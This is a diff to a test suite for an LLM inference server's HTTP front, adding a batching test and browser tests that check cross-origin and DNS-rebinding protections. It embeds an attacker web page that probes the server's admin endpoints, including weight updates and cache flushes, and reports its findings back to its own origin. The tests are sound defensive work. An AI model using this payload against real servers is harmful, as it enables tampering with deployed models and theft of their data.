@@ -6,8 +6,10 @@ from __future__ import annotations
 import json
 import re
 from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 
+import browser
 import pytest
 from bad_requests import BAD, completion
 from engines import INSTALLED, RELEASES, folder_of, needs_sglang
@@ -54,6 +56,19 @@ def test_a_bad_request_is_refused_by_the_name_of_its_field(served: HttpServer) -
     }
     assert wrong == {}
     assert [served.tokens(prompt) for prompt in PROMPTS] == before
+
+
+def test_requests_with_and_without_listed_tokens_share_a_batch(served: HttpServer) -> None:
+    """They ended SGLang 0.5.17, though each of them is a good request."""
+
+    def ask(number: int) -> int:
+        listed = {"return_logprob": True, "token_ids_logprob": [5, 6]} if number % 2 else {}
+        sampling = {"max_new_tokens": 4}
+        body = {"input_ids": [5 + number] * 40, "sampling_params": sampling, **listed}
+        return served.post("/generate", body)[0]
+
+    with ThreadPoolExecutor(8) as pool:
+        assert set(pool.map(ask, range(24))) == {200}
 
 
 def test_a_stream_that_is_refused_says_so(served: HttpServer) -> None:
@@ -185,6 +200,77 @@ def test_another_origin_can_do_nothing(served: HttpServer, site: str) -> None:
     assert served.ask("GET", "/v1/models", headers={"Sec-Fetch-Site": site})[0] == 403
     assert served.ask("GET", "/v1/models", headers={"Sec-Fetch-Site": "none"})[0] == 200
     assert served.ask("GET", "/v1/models", headers={"Origin": "null"})[0] == 403
+
+
+PAGE_OF_AN_ATTACKER = """<!doctype html><script>
+const server = SERVER, found = {};
+const body = JSON.stringify({input_ids: [5], sampling_params: {max_new_tokens: 1}});
+const json = {"Content-Type": "application/json"}, bearer = {"Authorization": "Bearer KEY"};
+const tries = {
+  read: () => fetch(server + "/v1/models").then(answer => answer.text()),
+  metrics: () => fetch(server + "/metrics").then(answer => answer.text()),
+  ask: () => fetch(server + "/generate", {method: "POST", body, headers: json})
+    .then(answer => answer.text()),
+  plain: () => fetch(server + "/generate", {method: "POST", body}).then(answer => answer.text()),
+  key: () => fetch(server + "/v1/models", {headers: bearer}).then(answer => answer.text()),
+  beacon: () => Promise.resolve(navigator.sendBeacon(server + "/update_weights_from_disk", body))
+    .then(() => { throw "sent, unread"; }),
+  blind: () => fetch(server + "/flush_cache", {method: "POST", body, mode: "no-cors"})
+    .then(answer => answer.type == "opaque" ? Promise.reject("opaque") : answer.text()),
+  image: () => new Promise((good, bad) => {
+    const image = new Image(); image.onload = () => good("loaded"); image.onerror = bad;
+    image.src = server + "/health_generate";
+  }),
+  socket: () => new Promise((good, bad) => {
+    const socket = new WebSocket(server.replace("http", "ws") + "/v1/realtime");
+    socket.onopen = () => good("open"); socket.onerror = () => bad("closed");
+  }),
+};
+(async () => {
+  for (const [name, attempt] of Object.entries(tries))
+    found[name] = await attempt().then(text => "read " + text, () => "nothing");
+  await fetch("/said", {method: "POST", body: JSON.stringify(found)});
+})();
+</script>"""
+
+
+@pytest.mark.skipif(browser.BROWSER is None, reason="no Chromium to open a page with")
+def test_a_page_in_a_real_browser_reads_and_changes_nothing(
+    served: HttpServer, tmp_path: Path
+) -> None:
+    """A page of another port of this machine, and one whose name is bound to the server's
+    address."""
+    if served.release != INSTALLED:
+        pytest.skip("the front is the same for every release")
+    address = f"http://127.0.0.1:{served.port}"
+    page = PAGE_OF_AN_ATTACKER.replace("KEY", KEY)
+    with browser.serving(page.replace("SERVER", json.dumps(address))) as evil:
+        found = evil.opened(f"http://127.0.0.1:{evil.port}/", tmp_path / "a")
+    assert set(found.values()) == {"nothing"} and len(found) == 9
+    rebound = f"http://rebound.example:{served.port}"
+    hosts = "--host-resolver-rules=MAP *.example 127.0.0.1"
+    with browser.serving(page.replace("SERVER", json.dumps(rebound))) as evil:
+        found = evil.opened(f"http://page.example:{evil.port}/", tmp_path / "b", hosts)
+    assert set(found.values()) == {"nothing"}
+    log = served.log.read_text()
+    asked = re.findall(r'"(?:GET|POST|OPTIONS) (\S+) HTTP/1.1" (\d+)', log)
+    assert ("/update_weights_from_disk", "403") in asked and ("/flush_cache", "403") in asked
+    assert ("/update_weights_from_disk", "200") not in asked
+
+
+@pytest.mark.skipif(browser.BROWSER is None, reason="no Chromium to open a page with")
+def test_a_page_of_an_opened_origin_reads_in_a_real_browser(
+    served: HttpServer, tmp_path: Path
+) -> None:
+    if served.release != INSTALLED:
+        pytest.skip("the front is the same for every release")
+    page = PAGE_OF_AN_ATTACKER.replace("KEY", KEY)
+    page = page.replace("SERVER", json.dumps(f"http://127.0.0.1:{served.port}"))
+    with browser.serving(page) as friend:
+        hosts = f"--host-resolver-rules=MAP page.example:8080 127.0.0.1:{friend.port}"
+        found = friend.opened(f"{PAGE}/", tmp_path, hosts)
+    assert found["key"].startswith('read {"object":"list"') and found["beacon"] == "nothing"
+    assert "invalid_api_key" in found["read"] and "invalid_api_key" in found["ask"]
 
 
 def test_an_origin_that_was_opened_may_ask_and_read(served: HttpServer) -> None:
